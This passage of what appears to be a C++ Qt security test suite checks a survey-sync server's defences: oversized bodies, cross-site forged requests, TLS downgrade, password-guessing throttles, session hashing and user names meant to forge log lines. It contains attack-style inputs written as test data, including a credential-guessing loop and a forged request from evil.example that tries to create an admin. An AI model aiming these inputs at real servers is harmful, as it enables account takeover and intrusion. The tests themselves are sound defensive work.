    flood("POST /v1/projects/1/submission HTTP/1.1\r\nHost: x\r\nX-OpenRosa-Version: 1.0\r\n"
          "Content-Length: 10000000000\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n",
          &answer);
    QVERIFY2(answer.rfind("HTTP/1.1 413", 0) == 0, answer.c_str());
    const long after = statusKb(pid, "VmHWM:");
    qInfo("server peak memory: %ld kB before, %ld kB after 300 MB of refused bodies", before,
          after);
    QVERIFY2(after - before < 20 * 1024, qPrintable(QString::number(after - before)));
}

void TestServerSecurity::jsonWritesNeedJson()
{
    // A web page can make a browser send text/plain (or a form) anywhere without asking: an
    // admin's browser must not be made to create an admin. JSON writes want application/json.
    auto c = client("admin", "admin-password");
    const std::string body =
        R"({"displayName":"mallory","role":"admin","password":"mallory-password"})";
    for (const char *type : {"text/plain", "application/x-www-form-urlencoded"}) {
        auto r = c.Post("/v1/users", body, type);
        QVERIFY(r);
        QCOMPARE(r->status, 415);
    }
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM users WHERE name = 'mallory'")), 0);
    auto r =
        c.Post("/v1/sessions", R"({"username":"enuA","password":"enuA-password"})", "text/plain");
    QVERIFY(r);
    QCOMPARE(r->status, 415);
    // Nor from another site's page, whatever it says it sends.
    r = c.Post("/v1/users", {{"Origin", "https://evil.example"}}, body, "application/json");
    QVERIFY(r);
    QCOMPARE(r->status, 403);
    r = c.Post("/v1/projects/1/forms/probe/draft", {{"Sec-Fetch-Site", "cross-site"}}, "",
               "text/plain");
    QVERIFY(r);
    QCOMPARE(r->status, 403);
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM users WHERE name = 'mallory'")), 0);
    r = c.Post("/v1/users", body, "application/json; charset=utf-8");
    QVERIFY(r);
    QCOMPARE(r->status, 200);
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM users WHERE name = 'mallory'")), 1);
    QVERIFY(c.Delete("/v1/users/mallory"));
}

void TestServerSecurity::plainHttpStaysOnLoopback()
{
    // --insecure-http on an address other machines reach is refused unless said twice,
    // and then warned about.
    auto r = testutil::runProgram(QStringLiteral(SURVEY_SYNC),
                                  {QStringLiteral("serve"), QStringLiteral("--db"), db(),
                                   QStringLiteral("--listen"), QStringLiteral("0.0.0.0:0"),
                                   QStringLiteral("--insecure-http")});
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains("--allow-insecure-remote"), r.err.constData());
    QProcess server;
    server.setProcessChannelMode(QProcess::SeparateChannels);
    const QUrl base = testutil::startAndReadUrl(
        server, QStringLiteral(SURVEY_SYNC),
        {QStringLiteral("serve"), QStringLiteral("--db"), db(), QStringLiteral("--listen"),
         QStringLiteral("0.0.0.0:0"), QStringLiteral("--insecure-http"),
         QStringLiteral("--allow-insecure-remote")});
    QVERIFY(base.isValid());
    server.terminate();
    QVERIFY(server.waitForFinished(10000));
    QVERIFY(server.readAllStandardError().contains("unencrypted"));
}

void TestServerSecurity::tlsPolicy()
{
    // TLS 1.2 or newer, and for 1.2 only ciphers with forward secrecy.
    const QString cert = m_dir.filePath(QStringLiteral("cert.pem"));
    const QString key = m_dir.filePath(QStringLiteral("key.pem"));
    const auto made = testutil::runProgram(
        QStringLiteral("openssl"),
        {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"),
         QStringLiteral("rsa:2048"), QStringLiteral("-nodes"), QStringLiteral("-keyout"), key,
         QStringLiteral("-out"), cert, QStringLiteral("-days"), QStringLiteral("2"),
         QStringLiteral("-subj"), QStringLiteral("/CN=127.0.0.1")});
    QCOMPARE(made.exitCode, 0);
    QProcess server;
    const QUrl base = testutil::startAndReadUrl(
        server, QStringLiteral(SURVEY_SYNC),
        {QStringLiteral("serve"), QStringLiteral("--db"), db(), QStringLiteral("--listen"),
         QStringLiteral("127.0.0.1:0"), QStringLiteral("--tls-cert"), cert,
         QStringLiteral("--tls-key"), key});
    QVERIFY(base.isValid());
    const auto handshake = [&](int minVersion, int maxVersion, const char *ciphers) {
        SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
        SSL_CTX_set_security_level(ctx, 0); // let the client offer old things
        SSL_CTX_set_min_proto_version(ctx, minVersion);
        SSL_CTX_set_max_proto_version(ctx, maxVersion);
        if (ciphers)
            SSL_CTX_set_cipher_list(ctx, ciphers);
        const int s = connectFrom("127.0.0.1", base.port());
        SSL *ssl = SSL_new(ctx);
        SSL_set_fd(ssl, s);
        const bool ok = SSL_connect(ssl) == 1;
        const std::string version = ok ? SSL_get_version(ssl) : "";
        SSL_free(ssl);
        ::close(s);
        SSL_CTX_free(ctx);
        return version;
    };
    QCOMPARE(handshake(TLS1_VERSION, TLS1_1_VERSION, "ALL:@SECLEVEL=0"), std::string());
    QCOMPARE(handshake(TLS1_2_VERSION, TLS1_2_VERSION, "AES128-GCM-SHA256:AES256-SHA"),
             std::string()); // RSA key exchange: no forward secrecy
    QCOMPARE(handshake(TLS1_2_VERSION, TLS1_2_VERSION, "ECDHE-RSA-AES128-GCM-SHA256"),
             std::string("TLSv1.2"));
    QCOMPARE(handshake(TLS1_3_VERSION, TLS1_3_VERSION, nullptr), std::string("TLSv1.3"));
    // Under TLS, browsers are told to keep to HTTPS.
    httplib::SSLClient tls(base.host().toStdString(), base.port());
    tls.enable_server_certificate_verification(false);
    auto r = tls.Get("/v1/nothing");
    QVERIFY(r);
    QCOMPARE(r->get_header_value("Strict-Transport-Security"), std::string("max-age=31536000"));
    server.terminate();
    QVERIFY(server.waitForFinished(10000));
}

void TestServerSecurity::securityHeaders()
{
    // Answers holding answers are not to be cached, nor sniffed into another type.
    auto c = client("supA", "supA-password");
    for (const char *path :
         {"/v1/projects/1/forms/probe/submissions", "/v1/projects/1/formList", "/v1/nothing"}) {
        auto r = c.Get(path, {{"X-OpenRosa-Version", "1.0"}});
        QVERIFY(r);
        QCOMPARE(r->get_header_value("X-Content-Type-Options"), std::string("nosniff"));
        QCOMPARE(r->get_header_value("Cache-Control"), std::string("no-store"));
        QCOMPARE(r->get_header_value("Strict-Transport-Security"), std::string()); // plain HTTP
    }
}

void TestServerSecurity::passwordGuessingThrottled()
{
    // Guessing is refused at once (429, Retry-After) after 10 failures for an account or 30
    // from an address, without checking a password or holding a worker; a device that signed
    // in a moment ago goes on working meanwhile.
    const auto formList = [&](const char *from, const char *user, const char *password) {
        const int s = connectFrom(from, m_port);
        const QByteArray auth = QByteArray(user) + ':' + password;
        const bool sent =
            s >= 0 &&
            sendAll(s, "GET /v1/projects/1/formList HTTP/1.1\r\nHost: x\r\nX-OpenRosa-Version: "
                       "1.0\r\nAuthorization: Basic " +
                           auth.toBase64().toStdString() + "\r\n\r\n");
        const std::string r = sent ? readResponse(s) : std::string();
        if (s >= 0)
            ::close(s);
        return r;
    };
    const auto status = [](const std::string &r) { return r.substr(0, 12); };
    QCOMPARE(status(formList("127.0.6.9", "victim", "victim-password")),
             std::string("HTTP/1.1 200"));
    for (int i = 0; i < 10; ++i)
        QCOMPARE(status(formList("127.0.6.1", "victim", "guess")), std::string("HTTP/1.1 401"));
    std::string r = formList("127.0.6.1", "victim", "guess");
    QCOMPARE(status(r), std::string("HTTP/1.1 429"));
    QVERIFY2(r.find("Retry-After: 15\r\n") != std::string::npos, r.c_str());
    QVERIFY(r.find("too many failed sign-ins") != std::string::npos);
    // The account, not only the address: another address's guess is refused too.
    QCOMPARE(status(formList("127.0.6.2", "victim", "guess")), std::string("HTTP/1.1 429"));
    // The victim's device, whose password was checked a moment ago, carries on.
    QCOMPARE(status(formList("127.0.6.9", "victim", "victim-password")),
             std::string("HTTP/1.1 200"));
    // Made-up names from one address: 30 are checked, then the address waits.
    int refusedAtOnce = 0;
    for (int i = 0; i < 60; ++i) {
        const QByteArray name = "made-up-" + QByteArray::number(i);
        const std::string answer = formList("127.0.6.3", name.constData(), "guess");
        if (i < 30)
            QCOMPARE(status(answer), std::string("HTTP/1.1 401"));
        else
            refusedAtOnce += status(answer) == "HTTP/1.1 429" ? 1 : 0;
    }
    QCOMPARE(refusedAtOnce, 30);
    QCOMPARE(status(formList("127.0.6.4", "enuA", "enuA-password")), std::string("HTTP/1.1 200"));
}

void TestServerSecurity::sessionsEndAndAreHashed()
{
    // The database holds a session token's SHA-256, never the token; DELETE /v1/sessions/{token}
    // ends a session (its own, or any for an admin); expired rows go as new sessions come.
    httplib::Client c(m_host, m_port);
    auto r = c.Post("/v1/sessions", R"({"username":"enuB","password":"enuB-password"})",
                    "application/json");
    QVERIFY(r);
    QCOMPARE(r->status, 200);
    const QString token = QJsonDocument::fromJson(QByteArray::fromStdString(r->body))
                              .object()
                              .value(QStringLiteral("token"))
                              .toString();
    QCOMPARE(token.size(), 64);
    const QString hash = QString::fromLatin1(
        QCryptographicHash::hash(token.toLatin1(), QCryptographicHash::Sha256).toHex());
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM sessions WHERE token_hash = ?"), {hash}),
             1);
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM sessions WHERE token_hash = ? OR "
                                  "created_at = ? OR expires_at = ?"),
                   {token, token, token}),
             0);
    const httplib::Headers bearer{{"Authorization", "Bearer " + token.toStdString()}};
    QCOMPARE(c.Get("/v1/projects/1/forms/probe/submissions", bearer)->status, 200);
    // Someone else's token: as if there were none.
    auto other = client("enuA", "enuA-password");
    QCOMPARE(other.Delete(("/v1/sessions/" + token).toStdString())->status, 404);
    QCOMPARE(c.Get("/v1/projects/1/forms/probe/submissions", bearer)->status, 200);
    // Signing out.
    r = c.Delete(("/v1/sessions/" + token).toStdString(), bearer);
    QVERIFY(r);
    QCOMPARE(r->status, 200);
    QCOMPARE(c.Get("/v1/projects/1/forms/probe/submissions", bearer)->status, 401);
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM sessions WHERE token_hash = ?"), {hash}),
             0);
    // An expired row is removed when the next session starts.
    QCOMPARE(count(QStringLiteral("INSERT INTO sessions (token_hash, user_id, created_at, "
                                  "expires_at) SELECT 'old', id, '2020-01-01', '2020-01-02' FROM "
                                  "users WHERE name = 'enuB'")),
             1);
    r = c.Post("/v1/sessions", R"({"username":"enuB","password":"enuB-password"})",
               "application/json");
    QCOMPARE(r->status, 200);
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM sessions WHERE token_hash = 'old'")), 0);
}

void TestServerSecurity::lastAdminStaysAndUsersComeBack()
{
    // Nobody (the admin itself included) can disable the last active admin; a disabled user
    // can be enabled again (survey-sync user enable).
    const auto cli = [&](const QStringList &args) {
        return testutil::runProgram(QStringLiteral(SURVEY_SYNC),
                                    QStringList{QStringLiteral("user")} + args +
                                        QStringList{QStringLiteral("--db"), db()});
    };
    auto r = cli({QStringLiteral("disable"), QStringLiteral("admin")});
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains("admin is the last active admin"), r.err.constData());
    auto admin = client("admin", "admin-password");
    auto res = admin.Delete("/v1/users/admin");
    QVERIFY(res);
    QCOMPARE(res->status, 409);
    QCOMPARE(count(QStringLiteral("SELECT disabled FROM users WHERE name = 'admin'")), 0);
    // enuB: disabled (its sessions end), then enabled and signing in again.
    httplib::Client c(m_host, m_port);
    auto session = c.Post("/v1/sessions", R"({"username":"enuB","password":"enuB-password"})",
                          "application/json");
    QCOMPARE(session->status, 200);
    QCOMPARE(cli({QStringLiteral("disable"), QStringLiteral("enuB")}).exitCode, 0);
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM sessions s JOIN users u ON u.id = "
                                  "s.user_id WHERE u.name = 'enuB'")),
             0);
    auto enuB = client("enuB", "enuB-password");
    QCOMPARE(enuB.Get("/v1/projects/1/formList", {{"X-OpenRosa-Version", "1.0"}})->status, 401);
    r = cli({QStringLiteral("enable"), QStringLiteral("enuB")});
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out, QByteArray("enabled enuB\n"));
    QCOMPARE(enuB.Get("/v1/projects/1/formList", {{"X-OpenRosa-Version", "1.0"}})->status, 200);
    r = cli({QStringLiteral("enable"), QStringLiteral("nobody")});
    QCOMPARE(r.exitCode, 1);
}

void TestServerSecurity::userNamesArePlain()
{
    // ':' would split an HTTP Basic sign-in; line breaks and control characters would forge
    // lines in logs and lists.
    for (const QString &name :
         {QStringLiteral("a:b"), QStringLiteral("line\nbreak"), QStringLiteral(" padded"),
          QStringLiteral("bell\a"), QStringLiteral("sla/sh"), QString(65, QLatin1Char('n'))}) {
        const auto r = testutil::runProgram(
            QStringLiteral(SURVEY_SYNC),
            {QStringLiteral("user"), QStringLiteral("add"), QStringLiteral("--db"), db(), name,
             QStringLiteral("--role"), QStringLiteral("enumerator")},
            "long-enough-password\n");
        QCOMPARE(r.exitCode, 1);
        QVERIFY2(r.err.contains("user name"), r.err.constData());
    }
    auto admin = client("admin", "admin-password");
    auto res = admin.Post("/v1/users",
                          R"({"displayName":"x:y","role":"enumerator","password":"long-enough-1"})",
                          "application/json");
    QVERIFY(res);
    QCOMPARE(res->status, 400);
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM users WHERE name LIKE '%:%'")), 0);
}

void TestServerSecurity::supervisorsOfTheirOwnProject()
{
    // A supervisor of project 2 cannot be given an enumerator of project 1.
    const auto sync = [&](const QStringList &args, const QByteArray &in = {}) {
        return testutil::runProgram(QStringLiteral(SURVEY_SYNC), args, in);
    };
    auto r = sync({QStringLiteral("project"), QStringLiteral("add"), QStringLiteral("--db"), db(),
                   QStringLiteral("Enterprises")});
    QCOMPARE(r.exitCode, 0);
    const int project = count(QStringLiteral("SELECT MAX(id) FROM projects"));
    QVERIFY(project >= 2);
    QCOMPARE(r.out, QStringLiteral("added project %1 (Enterprises)\n").arg(project).toUtf8());
    const QString sup = QStringLiteral("supP%1").arg(project);
    QCOMPARE(sync({QStringLiteral("user"), QStringLiteral("add"), QStringLiteral("--db"), db(), sup,
                   QStringLiteral("--role"), QStringLiteral("supervisor"),
                   QStringLiteral("--project"), QString::number(project)},
                  "long-enough-password\n")
                 .exitCode,
             0);
    r = sync({QStringLiteral("user"), QStringLiteral("add"), QStringLiteral("--db"), db(),
              QStringLiteral("enuP%1").arg(project), QStringLiteral("--role"),
              QStringLiteral("enumerator"), QStringLiteral("--supervisor"), sup},
             "long-enough-password\n");
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(
                 QStringLiteral("belongs to project %1, not project 1").arg(project).toUtf8()),
             r.err.constData());
    r = sync({QStringLiteral("user"), QStringLiteral("add"), QStringLiteral("--db"), db(),
              QStringLiteral("enuP%1").arg(project), QStringLiteral("--role"),
              QStringLiteral("enumerator"), QStringLiteral("--supervisor"), sup,
              QStringLiteral("--project"), QString::number(project)},
             "long-enough-password\n");
    QCOMPARE(r.exitCode, 0);
}

void TestServerSecurity::filesOnlyForTheServer()
{
    // The database, its write-ahead log and the working folder hold password hashes, answers
    // and session hashes: readable by the server's own user alone.
    const QString path = db().mid(7);
    for (const QString &file :
         {path, path + QStringLiteral("-wal"), path + QStringLiteral("-shm")}) {
        QVERIFY2(QFileInfo::exists(file), qPrintable(file));
        const auto p = QFileInfo(file).permissions();
        QCOMPARE(p & (QFileDevice::ReadGroup | QFileDevice::WriteGroup | QFileDevice::ReadOther |
                      QFileDevice::WriteOther),
                 QFileDevice::Permissions());
    }
    const auto dir = QFileInfo(m_dir.filePath(QStringLiteral("data"))).permissions();
    QCOMPARE(dir & (QFileDevice::ReadGroup | QFileDevice::ExeGroup | QFileDevice::ReadOther |
                    QFileDevice::ExeOther),
             QFileDevice::Permissions());
}

void TestServerSecurity::sendBackNeedsTheReviewersWords()
{
    // A supervisor sends a submission back only with words of their own: a comment the
    // enumerator left does not count.
    const QString id = newId();
    QCOMPARE(post(submission(id))->status, 201);
    auto enu = client("enuA", "enuA-password");
    const std::string path = "/v1/projects/1/forms/probe/submissions/" + id.toStdString();
    auto r = enu.Post(path + "/comments", R"({"body":"please accept"})", "application/json");
    QVERIFY(r);
    QCOMPARE(r->status, 200);
    auto sup = client("supA", "supA-password");
    r = sup.Patch(path, R"({"reviewState":"hasIssues"})", "application/json");
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QVERIFY(r->body.find("needs a comment") != std::string::npos);
    r = sup.Post(path + "/comments", R"({"body":"the meter reading is missing"})",
                 "application/json");
    QCOMPARE(r->status, 200);
    r = sup.Patch(path, R"({"reviewState":"hasIssues"})", "application/json");
    QCOMPARE(r->status, 200);
}

QTEST_GUILESS_MAIN(TestServerSecurity)
#include "tst_server_security.moc"
